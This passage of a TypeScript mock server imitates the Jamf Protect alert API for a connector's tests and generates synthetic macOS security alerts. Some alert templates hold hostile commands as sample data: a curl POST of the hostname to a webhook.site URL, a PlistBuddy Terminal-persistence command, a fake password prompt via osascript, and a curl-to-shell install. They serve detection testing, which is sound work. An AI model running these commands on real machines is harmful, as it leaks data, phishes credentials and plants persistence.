/**
 * A mock of the Jamf Protect API (`POST /token`, `POST /graphql` with `listAlerts` and `getAlert`) on a
 * real `node:http` server, for the jamf_protect.alerts pull connector's integration tests, `npm run demo`
 * and the benchmarks.
 *
 * Faithful where the vendor is known (see /work/shared/VENDOR-APIS.md and the real alert bodies in
 * test/fixtures/jamf_protect/alerts/): the token request `{"client_id", "password"}` and its
 * `{"access_token", "expires_in", "token_type"}` answer; the raw token (no "Bearer ") in
 * `Authorization`; `listAlerts(input: {filter, pageSize, next})` paged with an opaque `pageInfo.next`
 * until it is null; the severities Informational, Low, Medium and High; the alert's `json` as the very
 * document an agent pushes, serialised as a JSON string the way AWS AppSync serialises `AWSJSON`; AppSync's
 * answers: 401 `{"errors":[{"errorType":"UnauthorizedException",…}]}` for a bad token, HTTP 200 with
 * `{"data": null, "errors": [{"path": null, "locations": [...], "message"}]}` for an invalid query,
 * and `path`/`errorType`/`errorInfo` on errors raised while resolving. Queries are parsed, validated and
 * executed by the real `graphql` package against the schema below, so a client's typo fails here as
 * it would there (graphql-js wording, not AppSync's graphql-java wording).
 *
 * The schema is the public `/graphql`'s, which serves fewer Alert fields than the console's `/app`
 * (Jamf-Concepts/jamfprotect-go-sdk CLAUDE.md): the fields of the public Alert type (developer.jamf.com,
 * "Jamf Protect - Types") but not `/app`'s `analytics` or `facts`; `omitFields` takes more away (a tenant
 * whose /graphql does not serve `Alert.updated`, say). `wording: 'appsync'` words validation errors as
 * AppSync's graphql-java does ("Validation error of type FieldUndefined: Field 'x' in type 'Alert' is
 * undefined"). Alerts change after they are raised (`updateAlert`: status, tags, `updated`), and
 * `pagingQuirk` plays an API whose `next` repeats forever (Jamf-Concepts/jamfprotect-go-sdk commit
 * 79ab6be: "the audit log API returns the same next cursor repeatedly") or that ignores `next`.
 *
 * Assumed, not confirmed by the vendor: the filter grammar beyond severity (`created`, `updated`,
 * `eventType`, `and`, `or`), `direction`/`field`, `getAlert`, `pageSize` limits (default 100, at most 200), the
 * `next` token's content, the error messages and errorTypes of resolver errors, the bodies of
 * 400/403/404/429/5xx, the order of alerts (configurable, see `order`: clients must not depend on it),
 * the `status` values and the `updated` time. Generated alerts follow the fixtures' shapes and key
 * orders (GPFSEvent, GPProcessEvent, GPUSBEvent, GPDownloadEvent, GPUnifiedLogEvent — the latter
 * with keys in alphabetical order, an upper-case uuid and no `related`, as in the fixtures); analytics
 * not seen in the fixtures are modelled on Jamf Protect's published analytic names.
 *
 * Alerts are kept in one array sorted by (created, uuid); a page is a scan of the list in the asked
 * order with the filter applied, so `total` is exact and paging is over the live list, like a database
 * offset (alerts added while paging may appear, shift or repeat).
 */
import { createHash, randomBytes } from 'node:crypto';
import { STATUS_CODES, type IncomingMessage, type ServerResponse } from 'node:http';
import { GraphQLError, Kind, buildSchema, graphql, isScalarType, parse, type ExecutionResult, type GraphQLSchema, type ValueNode } from 'graphql';
import { mulberry32 } from './jamf-pro-server.ts';
import { MockVendorServer } from './mock-http.ts';

// ---------------------------------------------------------------------------------------------
// Vocabulary

export const SEVERITIES = ['Informational', 'Low', 'Medium', 'High'] as const;
export type JamfProtectSeverity = (typeof SEVERITIES)[number];

/** Event types `generateAlerts` has templates for (the fixtures' ones). */
export const GENERATED_EVENT_TYPES = ['GPFSEvent', 'GPProcessEvent', 'GPUSBEvent', 'GPDownloadEvent', 'GPUnifiedLogEvent'] as const;
export type GeneratedEventType = (typeof GENERATED_EVENT_TYPES)[number];

/** How `listAlerts` orders alerts when the query gives neither `field` nor `direction`. */
export type MockJamfProtectOrder = 'created-asc' | 'created-desc' | 'shuffled';

/** The schema the mock serves (AppSync flavour: AWSDateTime, AWSJSON). */
export const JAMF_PROTECT_SCHEMA_SDL = /* GraphQL */ `
scalar AWSDateTime
scalar AWSJSON
enum SEVERITY { Informational Low Medium High }
enum OrderDirection { ASC DESC }
enum AlertOrderField { created updated severity }
input DateTimeFilterInput { equals: AWSDateTime, greaterThan: AWSDateTime, greaterThanOrEqual: AWSDateTime, lessThan: AWSDateTime, lessThanOrEqual: AWSDateTime }
input SeverityFilterInput { equals: SEVERITY, greaterThan: SEVERITY, greaterThanOrEqual: SEVERITY, lessThan: SEVERITY, lessThanOrEqual: SEVERITY }
input StringFilterInput { equals: String, notEquals: String, contains: String }
input AlertFiltersInput { created: DateTimeFilterInput, updated: DateTimeFilterInput, severity: SeverityFilterInput, eventType: StringFilterInput, and: AlertFiltersInput, or: AlertFiltersInput }
input AlertQueryInput { filter: AlertFiltersInput, pageSize: Int, next: String, direction: OrderDirection, field: AlertOrderField }
type Computer { uuid: ID, hostName: String, serial: String }
type Alert { uuid: ID!, json: AWSJSON, severity: SEVERITY, eventType: String, status: String, tags: [String], created: AWSDateTime, updated: AWSDateTime, computer: Computer }
type PageInfo { next: String, total: Int }
type AlertConnection { items: [Alert!]!, pageInfo: PageInfo! }
type Query { listAlerts(input: AlertQueryInput): AlertConnection!, getAlert(uuid: ID!): Alert }
`;

// ---------------------------------------------------------------------------------------------
// Public types

export interface MockJamfProtectOptions {
  /** The accepted `client_id`. Default 'orchard-test-protect-client'. */
  clientId?: string;
  /** The accepted `password`. Default 'orchard-test-protect-password'. */
  password?: string;
  /** `expires_in` of issued tokens; they stop working after it (on the mock's clock). Default 3600. */
  tokenLifetimeSeconds?: number;
  /** Added to every token and graphql answer (faults included). Default 0. */
  latencyMs?: number;
  /** Every graphql call with a valid token is 403 "Not Authorized to access listAlerts" (a client without the Read role). */
  forbidden?: boolean;
  /** Order of `listAlerts` when the query names neither `field` nor `direction`. Default 'created-asc'. */
  order?: MockJamfProtectOrder;
  /** The mock's clock (token expiry, the default generation window, `requests[].at`). Default Date.now. */
  now?: () => number;
  /** Seed of the host fleet, of the tenant's ids and of `generateAlerts` calls without a seed. Default 1. */
  seed?: number;
  /** Fields this /graphql does not serve, as `Type.field` (`Alert.updated`, `AlertFiltersInput.updated`). */
  omitFields?: readonly string[];
  /** How validation errors are worded: graphql-js's (default) or AppSync's graphql-java's. */
  wording?: 'graphql-js' | 'appsync';
}

/** `repeat`: a request with a `next` token is answered that same token (and page) again, forever; `ignore`: every request gets the first page, with a new token. */
export type MockPagingQuirk = 'none' | 'repeat' | 'ignore';

/** One alert as stored; `documentText` is answered verbatim as the `json` field. */
export interface MockAlert {
  /** Equals `document.input.match.uuid`. */
  uuid: string;
  /** When Jamf Protect created the alert, epoch ms (answered as `created`, ISO with milliseconds). */
  created: number;
  document: Record<string, unknown>;
  /** The exact JSON text answered as `json`. */
  documentText: string;
  severity: JamfProtectSeverity;
  eventType: string;
  hostName: string;
  serial: string;
  /** Default 'New'. */
  status?: string;
  /** Epoch ms; default `created`. */
  updated?: number;
  /** Default the document's `input.match.tags`. */
  tags?: string[];
}

export interface GeneratedAlertOptions {
  count: number;
  /** Same seed (and same mock seed), same alerts. Default: a new seed per call, drawn from the mock's seed. */
  seed?: number;
  /** Created times are spread evenly over [fromMs, toMs). Default the hour before now(). */
  fromMs?: number;
  toMs?: number;
  /** Every alert gets created = fromMs (to test page boundaries inside one instant). */
  sameCreated?: boolean;
  /** Severities drawn from, evenly. Default a realistic mix (mostly Informational and Low). */
  severities?: readonly JamfProtectSeverity[];
  /** Event types drawn from, evenly; each must be one of GENERATED_EVENT_TYPES. Default all of them. */
  eventTypes?: readonly string[];
  /** Give alerts the statuses an older tenant has (mostly New; some InProgress, Resolved, AutoResolved, updated after creation). Default: every alert New, as just raised. */
  mixedStatuses?: boolean;
}

/**
 * A scripted answer for the next request(s) of a route; `delayMs` may be added to any of them.
 * - `{status}`: that status with a body fitting it (429 `{"message":"Too Many Requests"}`, 403 AppSync's
 *   "Not Authorized to access listAlerts on type Query", 5xx `{"message": "<status text>"}`, …), or `body`;
 *   `retryAfterSeconds` adds a `Retry-After` header.
 * - `{graphqlError}`: HTTP 200, `{"data":{"listAlerts":null},"errors":[{…, "errorType", "message"}]}` (graphql only).
 * - `{malformed: true}`: HTTP 200 with a truncated JSON body.
 * - `{resetConnection: true}`: the socket is destroyed without an answer.
 */
export type MockJamfProtectFault = (
  | { status: number; retryAfterSeconds?: number; body?: string; contentType?: string }
  | { graphqlError: string; errorType?: string }
  | { malformed: true }
  | { resetConnection: true }
) & { delayMs?: number };

export type MockJamfProtectRoute = 'token' | 'graphql' | 'other';

export interface MockJamfProtectRequest {
  route: MockJamfProtectRoute;
  method: string;
  path: string;
  /** Status answered; 0 while pending or when the socket was reset. */
  status: number;
  /** Lower-cased names; repeated headers joined with ', '. */
  headers: Record<string, string>;
  /** The raw request body (the first 1 MB of it). */
  body: string;
  /** graphql: the request's `variables`, when the body was JSON. */
  variables?: unknown;
  /** graphql: the request's `operationName`, when given. */
  operationName?: string;
  /** The mock's clock when the request arrived. */
  at: number;
}

// ---------------------------------------------------------------------------------------------
// Constants

const TOKEN_PATH = '/token';
const GRAPHQL_PATH = '/graphql';
const JSON_TYPE = 'application/json;charset=UTF-8';
const MAX_BODY_BYTES = 1024 * 1024;
const DEFAULT_PAGE_SIZE = 100;
const MAX_PAGE_SIZE = 200;
const HOSTS_PER_TENANT = 12;

const UNAUTHORIZED = '{"errors":[{"errorType":"UnauthorizedException","message":"Unauthorized"}]}';
const forbiddenBody = (field: string) => JSON.stringify({ errors: [{ errorType: 'UnauthorizedException', message: `Not Authorized to access ${field} on type Query` }] });
const INVALID_CLIENT = '{"error":"invalid_client","message":"Invalid client id or password"}';
const MALFORMED_REQUEST = '{"errors":[{"errorType":"MalformedHttpRequestException","message":"Unable to parse the request body as a GraphQL request."}]}';
const message = (text: string) => JSON.stringify({ message: text });

// ---------------------------------------------------------------------------------------------
// Deterministic data

type Rng = () => number;
const pick = <T>(r: Rng, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
const chance = (r: Rng, p: number) => r() < p;
const int = (r: Rng, min: number, max: number) => min + Math.floor(r() * (max - min + 1));
/** n lower-case hex digits, 8 per draw. */
function hex(r: Rng, n: number): string {
  let s = '';
  while (s.length < n) s += Math.floor(r() * 4294967296).toString(16).padStart(8, '0');
  return s.slice(0, n);
}
function uuidV4(r: Rng): string {
  const h = hex(r, 32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[Math.floor(r() * 4)]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
}
function seedOf(s: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 16777619);
  return h >>> 0;
}

/** Epoch seconds with a microsecond fraction, as Jamf Protect prints event timestamps (1700566364.184953). */
function epochSecondsMicros(ms: number, r: Rng): number {
  const clamped = Math.max(0, ms);
  const secs = Math.floor(clamped / 1000);
  const micros = (clamped % 1000) * 1000 + int(r, 0, 999);
  return Number(`${secs}.${String(micros).padStart(6, '0')}`);
}

const SERIAL_CHARS = [...'CDFGHJKLMNPQRTVWXY0123456789'];
const OS_VERSIONS = ['Version 13.6.1 (Build 22G313)', 'Version 14.0 (Build 23A344)', 'Version 14.2 (Build 23C5030f)', 'Version 14.2.1 (Build 23C71)', 'Version 14.3 (Build 23D56)', 'Version 14.5 (Build 23F79)'];
const PROTECT_VERSIONS = ['5.0.2.2', '5.1.0.4', '5.1.1.2', '5.1.2.2', '5.1.3.4'];
const OWNERS = [
  ['thijs', 'Thijs'],
  ['john', 'John'],
  ['mike', 'Mike'],
  ['jane.doe', 'Jane'],
  ['priya', 'Priya'],
  ['local-admin', 'Local'],
  ['bjorn', 'Björn'],
  ['aiko', 'Aiko'],
  ['mward', 'Mark'],
  ['chloe', 'Chloé'],
] as const;

interface Host {
  hostname: string;
  serial: string;
  ips: string[];
  os: string;
  protectVersion: string;
  provisioningUDID: string;
  certid: string;
  user: string;
  fsid: number;
}

function generateHost(r: Rng, index: number, serials: Set<string>): Host {
  let serial: string;
  do {
    const legacy = chance(r, 0.3);
    serial = (legacy ? 'C02' : pick(r, ['P', 'C', 'Z', 'F', 'H'])) + Array.from({ length: 9 }, () => pick(r, SERIAL_CHARS)).join('');
    if (!legacy) serial = serial.slice(0, 10);
  } while (serials.has(serial));
  serials.add(serial);
  const [user, first] = pick(r, OWNERS);
  const virtual = chance(r, 0.2);
  const pattern = index % 4;
  const hostname = virtual
    ? pick(r, [`VMAC-${serial.slice(1)}`, `${first}’s Virtual Machine`])
    : pattern === 0
      ? `LMAC-${serial.slice(serial.length === 12 ? 3 : 1)}`
      : pattern === 1
        ? `${first}’s MacBook Pro`
        : pattern === 2
          ? `MBP14-${user.replace(/[^a-z]/g, '').toUpperCase()}-${pick(r, ['SONOMA', 'VENTURA', 'DEV'])}`
          : serial;
  const ips = [`192.168.${int(r, 0, 20)}.${int(r, 2, 254)}`];
  if (chance(r, 0.2)) ips.unshift(`169.254.${int(r, 1, 254)}.${int(r, 1, 254)}`);
  const provisioningUDID = virtual
    ? `0000FE00-${hex(r, 16).toUpperCase()}`
    : serial.length === 12
      ? uuidV4(r).toUpperCase()
      : `0000${pick(r, ['6000', '8103', '8112', '6020'])}-00${hex(r, 14).toUpperCase()}`;
  return { hostname, serial, ips, os: pick(r, OS_VERSIONS), protectVersion: pick(r, PROTECT_VERSIONS), provisioningUDID, certid: hex(r, 64), user, fsid: 16777220 + int(r, 0, 15) };
}

// Binaries, their signing and stable hashes -----------------------------------------------------

interface BinaryDef {
  path: string;
  name: string;
  appid: string;
  signer: 'apple' | 'devid' | 'unsigned';
  team?: string;
  vendor?: string;
  size: number;
  entitlements?: string[];
}

const APPLE_AUTHORITIES = ['Software Signing', 'Apple Code Signing Certification Authority', 'Apple Root CA'];
const apple = (path: string, appid: string, size: number, entitlements?: string[]): BinaryDef => ({ path, name: path.slice(path.lastIndexOf('/') + 1), appid, signer: 'apple', size, ...(entitlements ? { entitlements } : {}) });
const devid = (path: string, appid: string, team: string, vendor: string, size: number): BinaryDef => ({ path, name: path.slice(path.lastIndexOf('/') + 1), appid, signer: 'devid', team, vendor, size });

const BIN = {
  zsh: apple('/bin/zsh', 'com.apple.zsh', 1377584),
  bash: apple('/bin/bash', 'com.apple.bash', 1310224),
  sudo: apple('/usr/bin/sudo', 'com.apple.sudo', 1446192),
  curl: apple('/usr/bin/curl', 'com.apple.curl', 191872),
  osascript: apple('/usr/bin/osascript', 'com.apple.osascript', 155760),
  plistBuddy: apple('/usr/libexec/PlistBuddy', 'com.apple.PlistBuddy', 172944),
  authTrampoline: apple('/usr/libexec/security_authtrampoline', 'com.apple.security_authtrampoline', 134768),
  terminal: apple('/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', 'com.apple.Terminal', 2222656),
  installd: apple('/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/installd', 'com.apple.installd', 1006528),
  mau: devid('/Library/PrivilegedHelperTools/com.microsoft.autoupdate.helper', 'com.microsoft.autoupdate.helper', 'UBF8T346G9', 'Microsoft Corporation', 293200),
  jamfLauncher: devid('/Library/Application Support/JAMF/Remote Assist/jamfRemoteAssistLauncher', 'com.jamf.remoteassist.launcher', '483DWKW443', 'JAMF Software', 6929392),
  chrome: devid('/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', 'com.google.Chrome', 'EQHXZ8M8AV', 'Google LLC', 183536),
} as const;

/** Hashes, inode and age of a file, stable per path (the same binary has the same hashes in every alert). */
interface FileFacts {
  sha1hex: string;
  sha256hex: string;
  cdhash: string;
  inode: number;
  ageSeconds: number;
}
const fileFactsCache = new Map<string, FileFacts>();
function fileFacts(path: string): FileFacts {
  let f = fileFactsCache.get(path);
  if (!f) {
    const r = mulberry32(seedOf(path));
    const sha1hex = hex(r, 40);
    f = { sha1hex, sha256hex: hex(r, 64), cdhash: Buffer.from(hex(r, 40), 'hex').toString('base64'), inode: path.startsWith('/System') || path.startsWith('/usr') || path.startsWith('/bin') ? 1152921500311900000 + int(r, 0, 700000) * 100 : int(r, 100000, 29999999), ageSeconds: int(r, 3, 200) * 86400 + int(r, 0, 86399) };
    fileFactsCache.set(path, f);
  }
  return f;
}

function signingInfo(b: BinaryDef): Record<string, unknown> {
  if (b.signer === 'unsigned') {
    return { appid: '', status: -67062, teamid: '', signerType: 4, authorities: [], entitlements: [], statusMessage: 'code object is not signed at all', informationStage: 'extended' };
  }
  const authorities = b.signer === 'apple' ? APPLE_AUTHORITIES : [`Developer ID Application: ${b.vendor} (${b.team})`, 'Developer ID Certification Authority', 'Apple Root CA'];
  return { appid: b.appid, cdhash: fileFacts(b.path).cdhash, status: 0, teamid: b.team ?? '', signerType: b.signer === 'apple' ? 0 : 2, authorities, entitlements: b.entitlements ?? [], statusMessage: 'No error.', informationStage: 'extended' };
}

/** A `related.binaries` / `related.files` entry, keys in the fixtures' order. */
function fileObject(c: Ctx, o: { path: string; size: number; mode: number; uid: number; gid: number; signing: BinaryDef; sha?: boolean; changedTs?: number; isAppBundle?: boolean; isDirectory?: boolean; isDownload?: boolean; xattrs?: string[]; downloadedFrom?: string[] }): Record<string, unknown> {
  const f = fileFacts(o.path);
  const t = Math.floor(c.ts);
  const changed = o.changedTs ?? t - f.ageSeconds;
  const created = o.changedTs !== undefined ? changed - int(c.r, 1, 3600) : changed;
  const withSha = o.sha ?? true;
  const out: Record<string, unknown> = {
    gid: o.gid,
    uid: o.uid,
    fsid: c.host.fsid,
    mode: o.mode,
    path: o.path,
    size: o.size,
    inode: f.inode,
    xattrs: o.xattrs ?? [],
    changed,
    created,
    sha1hex: withSha ? f.sha1hex : '',
    accessed: Math.max(changed, t - int(c.r, 0, 7200)),
    modified: changed,
    sha256hex: withSha ? f.sha256hex : '',
    isDownload: o.isDownload ?? false,
    objectType: 'GPSystemObject',
    isAppBundle: o.isAppBundle ?? false,
    isDirectory: o.isDirectory ?? false,
    signingInfo: signingInfo(o.signing),
    isScreenShot: false,
  };
  if (o.downloadedFrom) out.downloadedFrom = o.downloadedFrom;
  return out;
}

const binaryObject = (c: Ctx, b: BinaryDef) => fileObject(c, { path: b.path, size: b.size, mode: 33261, uid: 0, gid: 0, signing: b });

/** A `related.processes` entry, keys in the fixtures' order. */
function processObject(c: Ctx, b: BinaryDef, o: { pid: number; ppid: number; uid: number; args: string[]; tty?: string; startTs: number; responsiblePID: number }): Record<string, unknown> {
  const gid = o.uid === 0 ? 0 : 20;
  return {
    gid,
    pid: o.pid,
    ...(o.tty ? { tty: o.tty } : {}),
    uid: o.uid,
    args: o.args,
    name: b.name,
    path: b.path,
    ppid: o.ppid,
    rgid: gid,
    ruid: o.uid,
    uuid: uuidV4(c.r),
    flags: [],
    objectType: 'GPSystemObject',
    processType: 'GPSystemObject',
    signingInfo: signingInfo(b),
    groupLeaderPID: o.pid,
    inheritedFlags: [],
    responsiblePID: o.responsiblePID,
    startTimestamp: o.startTs,
    isPlatformBinary: b.signer === 'apple',
    originalParentPID: o.ppid,
    processIdentifier: int(c.r, 10000, 2000000),
  };
}

const usersOf = (c: Ctx, owner: boolean, root: boolean) => [...(owner ? [{ uid: 501, name: c.host.user, uuid: `${c.host.serial}1f5` }] : []), ...(root ? [{ uid: 0, name: 'root', uuid: `${c.host.serial}0` }] : [])];
const groupsOf = (c: Ctx, owner: boolean, root: boolean) => [...(owner ? [{ gid: 20, name: 'staff', uuid: `${c.host.serial}14` }] : []), ...(root ? [{ gid: 0, name: 'wheel', uuid: `${c.host.serial}0` }] : [])];

// Analytics (the `facts`) ----------------------------------------------------------------------

interface Analytic {
  name: string;
  human: string;
  tags: string[];
  actions: string[];
  custom?: boolean;
}
const ANALYTIC_UUIDS: Record<string, string> = {
  CustomURLHandlerCreation: '25a295ca-f4b3-4f78-8faa-80e9182645f1',
  DockTileAdded: '24fcb4dc-5720-422d-9801-42b1e7b7b291',
  'User Elevated Action': 'db094865-99c2-416c-9f06-e7740d9e8a20',
  USBInserted: 'b4fe77b3-f8d3-483d-ba29-ea2e1a5c44ea',
  new_downloads: 'e5faa7fe-a10b-461c-9bc3-b3080bb59f4a',
  terminal_persistence: '3184a930-51cb-490b-862a-631984ffdd61',
};
const analyticUuid = (name: string) => ANALYTIC_UUIDS[name] ?? uuidV4(mulberry32(seedOf(`analytic:${name}`)));

type Context = Array<{ name: string; value: string; valueType: 'String' }>;

/** `match.facts[0]` and the match fields around it, in the fixtures' (non unified log) key order. */
function classicMatch(c: Ctx, a: Analytic, event: Record<string, unknown>, context: Context): Record<string, unknown> {
  const actions = a.custom ? a.actions.map((name) => ({ name, parameters: {} })) : a.actions.map((name) => ({ name }));
  const fact = { name: a.name, tags: a.tags, uuid: analyticUuid(a.name), human: a.human, actions, context, version: a.custom ? 0 : 1, severity: c.severity };
  return { tags: a.tags, uuid: c.uuid, event, facts: [fact], custom: a.custom ?? false, actions, context, severity: c.severity };
}

function classicDocument(c: Ctx, eventType: string, match: Record<string, unknown>, related: Record<string, unknown>): Record<string, unknown> {
  const h = c.host;
  return {
    caid: c.caid,
    certid: h.certid,
    input: { host: { os: h.os, ips: h.ips, serial: h.serial, hostname: h.hostname, protectVersion: h.protectVersion, provisioningUDID: h.provisioningUDID }, match, related, eventType },
  };
}

// Templates ------------------------------------------------------------------------------------

interface Ctx {
  r: Rng;
  host: Host;
  caid: string;
  /** The alert's uuid (match.uuid). */
  uuid: string;
  /** 0..3 */
  severity: number;
  /** match.event.timestamp: epoch seconds with microseconds. */
  ts: number;
}

const APPS = [
  { name: 'Slack', bundle: '/Applications/Slack.app', id: 'com.tinyspeck.slackmacgap', scheme: 'slack', team: 'BQR82RBBHL', vendor: 'Slack Technologies, Inc.' },
  { name: 'Microsoft Teams (work or school)', bundle: '/Applications/Microsoft Teams (work or school).app', id: 'com.microsoft.teams2', scheme: 'msteams', team: 'UBF8T346G9', vendor: 'Microsoft Corporation' },
  { name: 'zoom.us', bundle: '/Applications/zoom.us.app', id: 'us.zoom.xos', scheme: 'zoommtg', team: 'BJ4HAAB9B3', vendor: 'Zoom Video Communications, Inc.' },
  { name: 'Setapp', bundle: '/Applications/Setapp.app', id: 'com.setapp.DesktopClient', scheme: 'setapp', team: 'MEHY5QF425', vendor: 'Setapp Limited' },
  { name: '1Password', bundle: '/Applications/1Password.app', id: 'com.1password.1password', scheme: 'onepassword', team: '2BUA8C4S2C', vendor: 'AgileBits Inc.' },
] as const;

const FS_ANALYTICS = {
  url: { name: 'CustomURLHandlerCreation', human: 'Application that uses custom url handler created', tags: ['Visibility'], actions: ['CacheFile', 'Report'] },
  dock: { name: 'DockTileAdded', human: 'New Dock Tile registered', tags: ['Persistence', 'BootOrLogonAutostartExecution', 'MITREattack', 'T1547'], actions: ['Report', 'CacheFile'] },
  terminal: { name: 'terminal_persistence', human: '', tags: [], actions: ['CacheFile', 'Report'], custom: true },
  daemon: { name: 'LaunchDaemonCreated', human: 'New LaunchDaemon created', tags: ['Persistence', 'CreateOrModifySystemProcess', 'MITREattack', 'T1543.004'], actions: ['CacheFile', 'Report'] },
} satisfies Record<string, Analytic>;

function fsEvent(c: Ctx, o: { uid: number; pid: number; path: string; type: number; prevFile: string | null }): Record<string, unknown> {
  return { dev: c.host.fsid, gid: o.uid === 0 ? 0 : 20, pid: o.pid, uid: o.uid, path: o.path, type: o.type, uuid: uuidV4(c.r), iNode: fileFacts(o.path).inode, eventID: int(c.r, 1000, 999999), prevFile: o.prevFile, timestamp: c.ts };
}

const TEMPLATES: Record<GeneratedEventType, (c: Ctx) => Record<string, unknown>> = {
  GPFSEvent(c) {
    const r = c.r;
    const t = Math.floor(c.ts);
    const pid = int(r, 300, 99999);
    const kind = pick(r, ['url', 'url', 'dock', 'terminal', 'daemon'] as const);
    if (kind === 'terminal') {
      const path = `/Users/${c.host.user}/Library/Preferences/com.apple.Terminal.plist`;
      const hook = `https://webhook.site/${uuidV4(r)}`;
      const context: Context = [{ name: 'Test', value: `curl -X POST -H Content-Type: application/json -d {"computer_name": "${c.host.hostname}"} ${hook}`, valueType: 'String' }];
      const file = fileObject(c, { path, size: int(r, 4000, 40000), mode: 33152, uid: 501, gid: 20, signing: { path, name: '', appid: '', signer: 'unsigned', size: 0 }, changedTs: t });
      const proc = processObject(c, BIN.plistBuddy, { pid, ppid: int(r, 300, 9999), uid: 501, tty: '/dev/ttys000', args: ['/usr/libexec/PlistBuddy', '-c', `Set :"Window Settings":Basic:CommandString 'curl ${hook}'`, path], startTs: t, responsiblePID: int(r, 300, 9999) });
      const related = { files: [file], users: usersOf(c, true, false), groups: groupsOf(c, true, false), binaries: [binaryObject(c, BIN.plistBuddy)], processes: [proc] };
      return classicDocument(c, 'GPFSEvent', classicMatch(c, FS_ANALYTICS.terminal, fsEvent(c, { uid: 501, pid, path, type: 4, prevFile: null }), context), related);
    }
    if (kind === 'daemon') {
      const app = pick(r, APPS);
      const path = `/Library/LaunchDaemons/${app.id}.helper.plist`;
      const context: Context = [{ name: 'Label', value: `${app.id}.helper`, valueType: 'String' }];
      const file = fileObject(c, { path, size: int(r, 400, 1200), mode: 33188, uid: 0, gid: 0, signing: { path, name: '', appid: '', signer: 'unsigned', size: 0 }, changedTs: t });
      const proc = processObject(c, BIN.installd, { pid, ppid: 1, uid: 0, args: [BIN.installd.path], startTs: t - int(r, 60, 86400), responsiblePID: pid });
      const related = { files: [file], users: usersOf(c, false, true), groups: groupsOf(c, false, true), binaries: [binaryObject(c, BIN.installd)], processes: [proc] };
      return classicDocument(c, 'GPFSEvent', classicMatch(c, FS_ANALYTICS.daemon, fsEvent(c, { uid: 0, pid, path, type: 0, prevFile: null }), context), related);
    }
    const app = pick(r, APPS);
    const analytic = kind === 'url' ? FS_ANALYTICS.url : FS_ANALYTICS.dock;
    const signer = chance(r, 0.8) ? 2 : 4;
    const context: Context =
      kind === 'url'
        ? [{ name: 'Signer', value: String(signer), valueType: 'String' }, { name: 'BundleURLTypes', value: `{\n    CFBundleURLName = "${app.id}";\n    CFBundleURLSchemes =     (\n        ${app.scheme}\n    );\n}`, valueType: 'String' }]
        : [{ name: 'Plugin Name', value: 'DockTilePlugIn.docktileplugin', valueType: 'String' }];
    const appSigning: BinaryDef = signer === 2 ? devid(`${app.bundle}/Contents/MacOS/${app.name}`, app.id, app.team, app.vendor, 0) : { path: app.bundle, name: '', appid: '', signer: 'unsigned', size: 0 };
    const file = fileObject(c, { path: app.bundle, size: 96, mode: 16877, uid: 501, gid: 20, signing: appSigning, sha: false, changedTs: t, isAppBundle: true, isDirectory: true, xattrs: ['com.apple.macl'] });
    const updater = app.team === 'UBF8T346G9' ? BIN.mau : BIN.installd;
    const proc = processObject(c, updater, { pid, ppid: 1, uid: 0, args: [updater.path], startTs: t - int(r, 0, 600), responsiblePID: pid });
    const related = { files: [file], users: usersOf(c, false, true), groups: groupsOf(c, false, true), binaries: [binaryObject(c, updater)], processes: [proc] };
    const prevFile = chance(r, 0.5) ? `/Users/${c.host.user}/Library/Caches/${app.id}/Installation/${app.name}.app` : null;
    return classicDocument(c, 'GPFSEvent', classicMatch(c, analytic, fsEvent(c, { uid: 0, pid, path: app.bundle, type: 3, prevFile }), context), related);
  },

  GPProcessEvent(c) {
    const r = c.r;
    const t = Math.floor(c.ts);
    const pid = int(r, 300, 99999);
    const parentPid = pid - int(r, 1, 40);
    const responsible = int(r, 300, 2000);
    const scenario = pick(r, ['elevated', 'osascript', 'curl'] as const);
    let analytic: Analytic;
    let bin: BinaryDef;
    let parent: BinaryDef;
    let args: string[];
    let parentArgs: string[];
    let uid = 501;
    if (scenario === 'elevated') {
      analytic = { name: 'User Elevated Action', human: 'Application used deprecated elevation API', tags: ['DefenseEvasion', 'T1548.004', 'PrivilegeEscalation', 'MITREattack', 'AbuseElevationControlMechanism'], actions: ['Report'] };
      bin = BIN.authTrampoline;
      parent = BIN.jamfLauncher;
      args = [bin.path, '/Library/Application Support/JAMF/Remote Assist/Wipe', 'auth 16'];
      parentArgs = [parent.path, '/operation=connector.uninstall'];
      uid = 0;
    } else if (scenario === 'osascript') {
      analytic = { name: 'SuspiciousOsascriptExecution', human: 'osascript used to prompt the user for a password', tags: ['CredentialAccess', 'T1056.002', 'MITREattack', 'InputCapture'], actions: ['Report'] };
      bin = BIN.osascript;
      parent = BIN.bash;
      args = [bin.path, '-e', 'display dialog "macOS needs your password to continue" default answer "" with hidden answer'];
      parentArgs = ['/bin/bash', `/Users/${c.host.user}/Downloads/update.sh`];
    } else {
      analytic = { name: 'CurlPipedToShell', human: 'Script downloaded with curl and piped to a shell', tags: ['Execution', 'T1059.004', 'MITREattack', 'CommandAndScriptingInterpreter'], actions: ['Report'] };
      bin = BIN.curl;
      parent = BIN.zsh;
      args = ['curl', '-fsSL', `https://raw.githubusercontent.com/example-${hex(r, 6)}/install/main/install.sh`];
      parentArgs = ['-zsh'];
    }
    const event = { pid, type: 1, uuid: uuidV4(r), subType: 7, timestamp: c.ts };
    // The fixtures carry the whole process tree; half of these carry the parent too (keeps them near 3 KB).
    const withParent = chance(r, 0.5);
    const related = {
      files: [],
      users: usersOf(c, true, uid === 0),
      groups: groupsOf(c, true, uid === 0),
      binaries: withParent ? [binaryObject(c, bin), binaryObject(c, parent)] : [binaryObject(c, bin)],
      processes: [
        processObject(c, bin, { pid, ppid: parentPid, uid, tty: '/dev/ttys001', args, startTs: t, responsiblePID: responsible }),
        ...(withParent ? [processObject(c, parent, { pid: parentPid, ppid: responsible, uid, tty: '/dev/ttys001', args: parentArgs, startTs: t - int(r, 1, 900), responsiblePID: responsible })] : []),
      ],
    };
    return classicDocument(c, 'GPProcessEvent', classicMatch(c, analytic, event, []), related);
  },

  GPUSBEvent(c) {
    const r = c.r;
    const d = pick(r, [
      { vendorName: 'SanDisk', vendorId: '0x0781', productId: '0x5595', productName: 'Ultra USB 3.0', mediaName: 'SanDisk Ultra USB 3.0 Media', size: 15376000000 },
